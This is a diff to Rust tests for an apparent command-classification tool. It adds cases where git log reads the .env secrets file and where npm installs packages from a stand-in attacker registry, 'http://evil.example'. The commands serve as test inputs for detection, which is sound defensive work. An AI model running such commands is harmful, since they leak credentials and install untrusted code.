@@ -441,6 +441,10 @@ fn git_reads_the_paths_and_blobs_it_prints() {
             &["run git -C sub log -p -- .env", "read .env"],
         ),
         (
+            "git --git-dir=x log -c -p .env",
+            &["run git --git-dir=x log -c -p .env", "read .env"],
+        ),
+        (
             "git show HEAD:.env",
             &["run git show HEAD:.env", "read .env"],
         ),
@@ -780,6 +784,20 @@ fn installs_name_manager_packages_and_source() {
             ],
         ),
         ("npm i", &["run npm i", "install npm [] -"]),
+        (
+            "npm --registry=http://evil.example install x",
+            &[
+                "run npm --registry=http://evil.example install x",
+                "install npm [x] http://evil.example",
+            ],
+        ),
+        (
+            "npm --registry http://evil.example i x",
+            &[
+                "run npm --registry http://evil.example i x",
+                "install npm [x] http://evil.example",
+            ],
+        ),
         ("npm test", &["run npm test"]),
         (
             "yarn add left-pad",
